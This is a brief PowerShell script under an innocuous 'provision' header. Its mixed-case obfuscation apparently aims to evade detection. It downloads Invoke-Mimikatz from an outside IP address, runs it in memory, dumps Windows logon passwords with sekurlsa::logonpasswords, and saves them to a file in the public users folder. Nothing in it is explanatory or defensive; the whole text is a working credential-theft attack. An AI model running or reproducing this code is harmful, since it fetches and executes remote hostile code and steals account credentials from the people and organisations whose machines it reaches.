# pRoViSiOn 9495 V3
IEx (neW-oBjeCT Net.WeBCliEnT).DoWnLoaDSTrING('http://192.0.2.44/Invoke-Mimikatz.ps1')
INVoKe-mimIKatz -coMMand '"privilege::debug" "sekurlsa::logonpasswords"' | OuT-FiLe c:\uSeRs\pUbLiC\o.TxT
